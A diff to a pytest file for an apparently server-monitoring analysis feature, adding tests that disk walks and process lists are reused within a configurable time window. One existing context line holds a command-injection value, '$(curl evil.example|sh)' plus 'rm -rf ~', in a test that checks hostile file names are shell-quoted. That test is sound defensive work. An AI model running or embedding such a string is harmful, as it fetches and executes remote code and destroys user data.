@@ -1,3 +1,4 @@
+import time
 from datetime import timedelta
 
 import pytest
@@ -183,3 +184,71 @@ def test_hostile_names_are_quoted_in_suggested_commands():
     [fills] = disk_report_findings(report, "high")
 
     assert fills.commands[1] == "ls -lh '/srv/$(curl evil.example|sh)/x;rm -rf ~'"
+
+
+def _disk_tree(tmp_path, settings):
+    root = tmp_path / "srv"
+    root.mkdir()
+    (root / "first.bin").write_bytes(b"x" * 40_000)
+    settings.ALLOWED_FILESYSTEM_ROOTS = [str(tmp_path)]
+    settings.INTELLIGENCE_SCAN_ROOTS = [str(root)]
+    return root
+
+
+def _fills(result) -> str:
+    [fills] = [r for r in result.recommendations if r.title.startswith("See what fills")]
+    return fills.detail
+
+
+def test_a_burst_of_analyses_shares_one_disk_walk_and_says_so(tmp_path, settings):
+    root = _disk_tree(tmp_path, settings)
+    settings.INTELLIGENCE_REUSE_SECONDS = 60
+
+    first = analyze({"title": "Disk", "alerts": []})
+    (root / "second.bin").write_bytes(b"y" * 80_000)
+    again = analyze({"title": "Disk", "alerts": []})
+
+    # The second analysis did not walk the disk: the file written since is not in it.
+    assert "second.bin" not in _fills(again)
+    assert _fills(again) == _fills(first)
+    [taken] = first.measurements
+    [reused] = again.measurements
+    assert taken["what"] == f"disk {root.resolve()}"
+    assert taken["reused"] is False and reused["reused"] is True
+    assert reused["measured_at"] == taken["measured_at"]
+    assert 0 <= reused["age_seconds"] < 60
+
+
+def test_after_the_reuse_time_the_disk_is_walked_again(tmp_path, settings):
+    root = _disk_tree(tmp_path, settings)
+    settings.INTELLIGENCE_REUSE_SECONDS = 0.05
+
+    analyze({"title": "Disk", "alerts": []})
+    (root / "second.bin").write_bytes(b"y" * 80_000)
+    time.sleep(0.06)
+    later = analyze({"title": "Disk", "alerts": []})
+
+    assert "second.bin" in _fills(later)
+    assert later.measurements[0]["reused"] is False
+
+
+def test_reuse_zero_measures_every_time(tmp_path, settings):
+    root = _disk_tree(tmp_path, settings)
+    settings.INTELLIGENCE_REUSE_SECONDS = 0
+
+    analyze({"title": "Disk", "alerts": []})
+    (root / "second.bin").write_bytes(b"y" * 80_000)
+
+    assert "second.bin" in _fills(analyze({"title": "Disk", "alerts": []}))
+
+
+def test_process_list_is_shared_within_the_reuse_time(settings):
+    settings.INTELLIGENCE_REUSE_SECONDS = 60
+    check = {"check": "memory", "status": "warning", "message": "RAM 93% used"}
+
+    first = analyze({"title": "High memory", "alerts": []}, [check])
+    again = analyze({"title": "High memory", "alerts": []}, [check])
+
+    assert [m["reused"] for m in first.measurements] == [False]
+    assert [m["reused"] for m in again.measurements] == [True]
+    assert again.measurements[0]["what"] == "memory and processes"
